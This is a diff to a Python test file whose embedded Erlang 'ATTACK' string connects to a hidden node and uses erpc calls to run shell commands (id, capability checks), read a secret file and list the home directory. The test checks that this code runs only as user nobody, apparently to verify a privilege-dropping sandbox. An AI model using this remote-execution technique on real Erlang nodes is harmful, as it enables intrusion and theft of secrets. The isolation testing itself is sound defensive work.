@@ -27,8 +27,10 @@ ATTACK = """
 ok = net_kernel:monitor_nodes(true, [{{node_type, hidden}}]),
 receive {{nodeup, N, _}} ->
     Try = fun(F) -> try F() catch C:E -> {{C, E}} end end,
+    Cmd = "id; grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status; "
+          "grep NoNewPrivs /proc/self/status",
     Home = Try(fun() -> erpc:call(N, os, getenv, ["HOME"], 10000) end),
-    R = [{{cmd, Try(fun() -> erpc:call(N, os, cmd, ["id; grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status; grep NoNewPrivs /proc/self/status"], 10000) end)}},
+    R = [{{cmd, Try(fun() -> erpc:call(N, os, cmd, [Cmd], 10000) end)}},
          {{secret, Try(fun() -> erpc:call(N, file, read_file, ["{secret}"], 10000) end)}},
          {{home, Home}},
          {{home_listing, Try(fun() -> erpc:call(N, file, list_dir, [Home], 10000) end)}}],
@@ -51,7 +53,6 @@ def test_target_runs_code_on_the_hidden_node_as_nobody(node_factory, tmp_path, m
             time.sleep(0.05)
         assert out.exists(), "the target's attack did not run"
     got = dict(parse_term(out.read_text()))
-    print(got)
     text = got["cmd"] if isinstance(got["cmd"], str) else str(got["cmd"])
     nobody = pwd.getpwnam("nobody")
     assert f"uid={nobody.pw_uid}(" in text and "uid=0(" not in text, text
